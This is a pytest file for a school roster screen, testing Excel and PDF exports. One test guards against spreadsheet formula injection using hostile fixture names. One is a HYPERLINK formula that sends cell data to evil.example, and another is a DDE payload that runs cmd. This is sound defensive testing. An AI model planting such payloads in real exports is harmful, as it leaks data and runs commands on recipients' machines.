"""The roster's visible rows go to Excel and to print exactly as shown."""
from __future__ import annotations

from openpyxl import load_workbook
from pypdf import PdfReader
from PySide6.QtGui import QPdfWriter

from reports.table_print import paint_table
from ui.students.roster import RosterScreen


def test_export_writes_the_visible_rows(qtbot, school_store, tmp_path):
    roster = RosterScreen(school_store)
    qtbot.addWidget(roster)
    roster.reload()
    roster.grade.setCurrentIndex(roster.grade.findData(11))
    title, headers, rows = roster.table_for_output()
    from reports.excel import write_table
    path = write_table(tmp_path / "grade11.xlsx", title=title, headers=headers, rows=rows)

    sheet = load_workbook(path).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][0].startswith("Roster — ")
    assert list(values[1]) == headers
    assert len(values) - 2 == roster.model.rowCount() > 0
    assert {v[3] for v in values[2:]} == {"11"}


def test_print_paginates_with_every_visible_student(qtbot, school_store, tmp_path):
    roster = RosterScreen(school_store)
    qtbot.addWidget(roster)
    roster.reload()
    title, headers, rows = roster.table_for_output()
    pdf = QPdfWriter(str(tmp_path / "roster.pdf"))
    pdf.setResolution(300)
    pages = paint_table(pdf, title=title, headers=headers, rows=rows, subtitle="Demo High")
    del pdf  # finishes the file

    reader = PdfReader(tmp_path / "roster.pdf")
    assert len(reader.pages) == pages > 1
    words = [" ".join(page.extract_text().split()) for page in reader.pages]
    text = " ".join(words)
    assert all(row[0] in text and row[1] in text for row in rows)  # every id and last name
    assert "page 2" in words[1]


def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path):
    """A student named =HYPERLINK(…) once became a live formula in every
    school's exports."""
    import zipfile

    from reports.excel import write_table
    evil = ['=HYPERLINK("http://evil.example/?"&A3,"Click for the report")',
            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"]
    rows = [("9000000001", name, "9") for name in evil] + [("9000000002", "Nguyen-Ruiz", "10")]
    path = write_table(tmp_path / "roster.xlsx", title="=1+1 roster",
                       headers=["Student ID", "Name", "Grade"], rows=rows)
    with zipfile.ZipFile(path) as xlsx:
        sheet_xml = xlsx.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    cells = list(load_workbook(path).active.iter_rows(values_only=True))
    assert cells[0][0] == "=1+1 roster"
    assert [c[1] for c in cells[2:]] == evil + ["Nguyen-Ruiz"]
    types = [row[1].data_type for row in load_workbook(path).active.iter_rows(min_row=3)]
    assert set(types) == {"s"}
